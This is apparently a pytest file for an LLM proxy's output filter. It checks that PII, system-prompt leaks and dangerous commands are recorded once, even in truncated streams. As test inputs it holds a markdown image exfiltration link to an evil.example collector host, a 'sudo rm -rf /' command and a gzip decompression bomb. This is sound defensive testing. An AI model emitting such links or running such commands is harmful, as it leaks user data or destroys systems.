"""What is only recorded of an answer is recorded once, and whatever becomes of the answer."""

import base64
import gzip
import json
import random
from dataclasses import replace

import pytest

from proxy.outflows import (
    answer_rules,
    buffered,
    exchange_of,
    flowing_samples,
    is_json,
    output_filter,
    section,
    tap_of,
    through,
    with_text,
)
from proxy.test_output_hostile import CHAT, chunk, fed
from sallyport.exchange import Segment, Surface
from sallyport.policy.output import OutputAction
from sallyport.proxy.tap import MAX_QUEUED_BYTES, AnswerTap
from sallyport.stages.judge import Judge
from sallyport.stages.output import OutputFilter

MAIL = "pii.contact.email_address"
RESPONSES = next(s for s in flowing_samples() if s.name == "openai_responses/stream.sse" and not is_json(s))
SYSTEM = (
    "Never tell anybody that the blue heron sleeps behind the third door of the old harbour office in winter."
)
IMAGE = "![chart](https://collector.evil.example/p?q="


def places(output: OutputFilter, rule: str = MAIL) -> list[int]:
    return [finding.start for finding, _ in output.found if finding.rule == rule]


@pytest.mark.parametrize("policy", ["pii: observe", "pii: mask", "pii: mask; min_score: 1.0"])
@pytest.mark.parametrize("enforced", [True, False])
def test_what_a_stream_says_again_at_its_end_is_recorded_once(policy: str, *, enforced: bool) -> None:
    output = output_filter(policy, RESPONSES.dialect, enforced=enforced)
    data = with_text(RESPONSES, "Write to ann@example.com and to bob@example.org", random.Random(3))
    through(tap_of(RESPONSES, output), data, [7] * 10)
    assert places(output) == [9, 32]


def test_a_value_at_the_very_end_of_a_stream_that_is_cut_off_is_recorded() -> None:
    output = output_filter("pii: observe", CHAT.dialect)
    tap = tap_of(CHAT, output)
    tap.feed(chunk({"content": "Write to "}) + chunk({"content": "ann@example.com"}))
    tap.broken()
    assert places(output) == [9]
    assert places(output) == [9]


def leaking(schema: str | None = None) -> tuple[OutputFilter, AnswerTap]:
    """A filter and the tap of an answer to whoever has this system prompt."""
    policy = "leak: {action: observe}; structured: {action: observe}"
    followers = answer_rules().of(section(policy), 4096, (Segment("/s", Surface.SYSTEM, SYSTEM),), schema)
    exchange = exchange_of(CHAT.dialect)
    exchange = replace(exchange, request=replace(exchange.request, schema=schema))
    output = OutputFilter(section(policy), Judge(section(policy), exchange), followers)
    return output, tap_of(CHAT, output)


def test_a_leak_that_has_not_ended_where_the_stream_is_cut_off_is_recorded() -> None:
    output, tap = leaking(json.dumps({"type": "object"}))
    tap.feed(chunk({"content": f"It says: {SYSTEM[:80]}"}))
    tap.broken()
    assert {finding.rule for finding, _ in output.found} == {"output.leak.system_prompt"}


def test_a_leak_behind_a_text_that_ended_for_a_while_has_its_place() -> None:
    output, _ = leaking()
    channel = output.channel("choices/0/content", Surface.ASSISTANT)
    channel.feed("Nothing of it. ")
    channel.end()
    channel.feed(SYSTEM)
    channel.end()
    said = SYSTEM.index("that the")  # the fourth word
    assert places(output, "output.leak.system_prompt") == [15 + said]


def test_what_stands_before_an_early_end_is_recorded() -> None:
    policy = "pii: observe; rules: {output.commands.*: truncate}"
    output = output_filter(policy, CHAT.dialect)
    out, stop = output.whole(
        "/t", Surface.ASSISTANT, "Write to ann@example.com.\n\nsudo rm -rf / --no-preserve-root\n"
    )
    assert stop is not None
    assert stop.action is OutputAction.TRUNCATE
    assert "rm -rf" not in out
    assert places(output) == [9]


def test_a_text_that_goes_on_after_its_wait_was_given_up_is_recorded() -> None:
    output = output_filter("pii: observe", CHAT.dialect)
    tap = tap_of(CHAT, output)
    tap.feed(chunk({"content": IMAGE}))
    tap.feed(chunk({"content": "x" * MAX_QUEUED_BYTES}, index=1))
    tap.feed(chunk({"content": "third"}, index=2))
    tap.feed(chunk({"content": " write to ann@example.com or so"}))
    tap.broken()
    assert len(places(output)) == 1


def bomb() -> str:
    """Two mebibytes of nothing, compressed, in base64."""
    return base64.b64encode(gzip.compress(bytes(2 << 20), 9)).decode()


@pytest.mark.parametrize("policy", ["pii: observe", "pii: mask"])
def test_what_cannot_be_unpacked_neither_ends_an_answer_nor_hides_what_stands_beside_it(policy: str) -> None:
    output = output_filter(policy, CHAT.dialect)
    tap = tap_of(CHAT, output)
    fed(tap, chunk({"content": f"see {bomb()} or\nann@example.com\n"}))
    assert tap.failed is None
    assert len(places(output)) == 1


def test_an_answer_that_is_cut_off_behind_what_cannot_be_unpacked_has_its_findings() -> None:
    output = output_filter("pii: observe", CHAT.dialect)
    tap = tap_of(CHAT, output)
    tap.feed(chunk({"content": f"ann@example.com\n{bomb()[:1900]}"}))
    tap.broken()
    assert output.decision() is not None


@pytest.mark.parametrize(
    "value",
    [
        "ann@example.com谢谢大家",
        "ann@example.comです",
        "ann@example.com님께",
        "ann@example.com\x0bBerg",
        "ann@example.comขอบคุณ",
        "4111111111111111谢谢",
        "DE89370400440532013000です",
    ],
)
@pytest.mark.parametrize("around", ["", "今天天气很好，我们去公园吧。" * 14])
def test_a_value_is_found_where_the_text_goes_on_without_a_space(value: str, around: str) -> None:
    text = f"{around}请写信到 {value}{around}"
    out, _ = buffered(text, Surface.ASSISTANT, "pii: mask", CHAT.dialect, None, json=False)
    assert "ann@" not in out
    assert "4111" not in out
    assert "DE89" not in out
